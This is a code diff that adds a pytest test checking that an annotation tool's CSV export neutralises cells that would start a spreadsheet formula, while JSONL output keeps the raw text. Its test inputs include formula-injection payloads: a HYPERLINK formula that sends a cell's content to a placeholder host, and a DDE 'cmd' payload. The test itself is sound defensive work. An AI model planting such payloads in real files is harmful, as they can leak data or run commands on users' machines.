@@ -100,6 +100,20 @@ def test_csv_keeps_newlines_and_quotes_inside_cells(admin, labeled):
     assert rows[0]["rationale"] == 'Line one,\n"two"'
 
 
+@pytest.mark.parametrize("rationale", ['=HYPERLINK("http://x/?"&A2,"a")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                       "@SUM(1+1)", "\tleading tab", "\rleading return"])
+def test_csv_cells_that_would_start_a_formula_are_neutralised(admin, labeled, rationale):
+    from annotator.models import Judgment
+
+    Judgment.objects.filter(pk=labeled.judgments["agree-first"][0].pk).update(rationale=rationale)
+    url = f"/api/v1/projects/{labeled.project.id}/export"
+    response = admin.get(url, {"format": "judgments", "as": "csv"})
+    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["rationale"] == "'" + rationale, "a spreadsheet shows the text instead of running it"
+    assert row["preference"] == "-2", "numbers are never changed"
+    assert jsonl(admin, labeled.project, format="judgments")[0]["rationale"] == rationale, "JSONL keeps the text"
+
+
 def test_asking_for_parquet_starts_an_export_job(admin, labeled, django_capture_on_commit_callbacks):
     with django_capture_on_commit_callbacks() as callbacks:
         response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "trl", "as": "parquet"})
